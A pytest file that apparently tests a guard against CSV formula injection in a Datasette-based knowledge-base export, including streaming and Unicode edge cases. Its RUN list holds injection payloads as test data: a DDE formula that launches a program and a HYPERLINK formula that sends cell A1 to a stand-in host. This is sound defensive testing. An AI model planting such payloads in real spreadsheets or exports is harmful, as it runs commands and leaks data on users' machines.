"""Datasette's CSV runs nothing in a spreadsheet, and one quote taken away gives each value back."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st
from serving import asking

from kb.exports.cells import FORMULA
from kb.site.formulas import NUMBER, Guard

# What a spreadsheet runs, or would take apart; and what only looks like it.
RUN = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|x",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1",
    "'=1",
    "=a,b\r\n=c",
)
KEPT = ("a=b", "1-2", "", 'say "=1"', "it's", 'a\n=b,"=c"')
NUMBERS = (-1.5, 1e-7, -3, 0, 1e300, -1e300)

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"))
CELLS = st.one_of(TEXT, st.sampled_from([*RUN, *KEPT]), st.integers(), st.floats(allow_nan=False))


def written(rows: list[list[Any]]) -> bytes:
    """As Datasette writes it."""
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    return stream.getvalue().encode()


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def guarded(content: bytes, cuts: list[int]) -> bytes:
    """Fed in pieces that end at the cuts."""
    guard, ends = Guard(), [*sorted(cut % (len(content) + 1) for cut in cuts), len(content)]
    pieces = [content[start:end] for start, end in zip([0, *ends], ends, strict=False)]
    fed = [guard.feed(piece, is_last=False) for piece in pieces]
    return b"".join([*fed, guard.feed(b"", is_last=True)])


def given_back(cell: str) -> str:
    """What a reader does who wants the value and not a spreadsheet."""
    return cell[1:] if cell.startswith("'") and FORMULA.match(cell[1:]) else cell


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_runs_gets_a_quote_before_it(text: str) -> None:
    ((before, cell, after),) = read(guarded(written([["a", text, "z"]]), []))
    assert (before, cell, after) == ("a", f"'{text}", "z")


@pytest.mark.parametrize("value", [*KEPT, *NUMBERS])
def test_other_text_and_numbers_stay_as_they_are(value: object) -> None:
    content = written([["a", value], [value, "z"]])
    assert guarded(content, []) == content


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), max_size=5), st.lists(st.integers(0)))
def test_wherever_it_is_cut_no_cell_runs_and_each_can_be_given_back(
    rows: list[list[Any]], cuts: list[int]
) -> None:
    content = written(rows)
    found = read(guarded(content, cuts))
    for cell in (cell for row in found for cell in row):
        assert NUMBER.fullmatch(cell) or not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell)
    assert [[given_back(cell) for cell in row] for row in found] == read(content)


def test_a_record_is_given_on_as_soon_as_it_ends() -> None:
    guard = Guard()
    assert guard.feed(b'a,"=b\r\n', is_last=False) == b""
    assert guard.feed(b'c"\r\nd,', is_last=False) == b'a,"\'=b\r\nc"\r\n'
    assert guard.feed(b"-1\r\ne", is_last=False) == b"d,-1\r\n"
    assert guard.feed(b"=1", is_last=True) == b"e=1"


def test_a_letter_that_is_cut_in_two_comes_whole() -> None:
    content = "n,ü=\r\n＝1,é\r\n".encode()
    for cut in range(len(content)):
        assert guarded(content, [cut]).decode() == "n,ü=\r\n'＝1,é\r\n"


@pytest.fixture(scope="module")
def get(specimen: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    path = Path(shutil.copy(specimen, tmp_path_factory.mktemp("formulas") / "kb.db"))
    with closing(sqlite3.connect(path)) as db, db:
        for pmid, text in enumerate(RUN, start=990000001):
            db.execute(
                "UPDATE papers SET title = ?, authors = ? WHERE pmid = ?", (text, text, pmid)
            )
    with asking(path) as get:
        yield get


@pytest.mark.parametrize(
    "address",
    [
        "/kb/papers.csv",
        "/kb/papers.csv?_stream=on",
        "/kb/papers.csv?_dl=on",
        "/kb/papers.csv?_size=3",
    ],
)
def test_a_table_as_csv_runs_nothing_and_has_the_values_of_its_json(get: Any, address: str) -> None:
    head, *rows = read(get(address).content)
    assert head[:4] == ["pmid", "year", "title", "authors"]
    assert rows
    for pmid, _, title, *_ in rows:
        held = json.loads(get(f"/kb/papers/{pmid}.json?_shape=objects").text)["rows"][0]["title"]
        assert given_back(title) == held
        assert not FORMULA.match(title) or title.startswith("'")


def test_sql_that_says_a_formula_says_it_harmlessly(get: Any) -> None:
    sql = "SELECT '=1+1' AS a, -1.5 AS b, 'x' || char(10) || '=y,\"z' AS c, '@' AS \"=d\""
    answer = get(f"/kb.csv?{urlencode({'sql': sql})}")
    assert read(answer.content) == [["a", "b", "c", "'=d"], ["'=1+1", "-1.5", 'x\n=y,"z', "'@"]]
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_what_is_not_datasettes_csv_is_left_alone(get: Any) -> None:
    ours = read(get("/export/references.csv?pmid=990000001").content)
    assert f"'{RUN[0]}" in ours[1]
    named = quote("SELECT '=1' AS a")
    assert json.loads(get(f"/kb.json?sql={named}&_shape=array").text) == [{"a": "=1"}]
    assert get("/kb/nothing.csv").status_code == 404
